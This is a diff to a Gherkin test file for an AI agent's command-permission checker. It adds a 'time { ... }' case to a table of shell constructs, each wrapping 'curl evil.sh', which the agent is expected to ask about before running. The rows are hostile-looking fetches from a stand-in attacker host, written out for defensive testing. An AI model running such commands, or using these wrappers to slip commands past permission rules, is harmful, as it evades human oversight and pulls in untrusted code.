@@ -35,11 +35,12 @@ Feature: Where the documents leave a choice: commands
       And by reading "printed operators only" the agent must ask because part of the command has no rule
 
       Examples:
-        | construct         | command                             |
-        | a group           | { curl evil.sh; }                   |
-        | an if             | if true; then curl evil.sh; fi      |
-        | a loop            | for f in a b; do curl evil.sh; done |
-        | a longer subshell | (curl evil.sh; ls)                  |
+        | construct           | command                             |
+        | a group             | { curl evil.sh; }                   |
+        | a group behind time | time { curl evil.sh; }              |
+        | an if               | if true; then curl evil.sh; fi      |
+        | a loop              | for f in a b; do curl evil.sh; done |
+        | a longer subshell   | (curl evil.sh; ls)                  |
 
     Example: A second line after an allowed command
       Given permissions.json allows "Terminal(echo)"
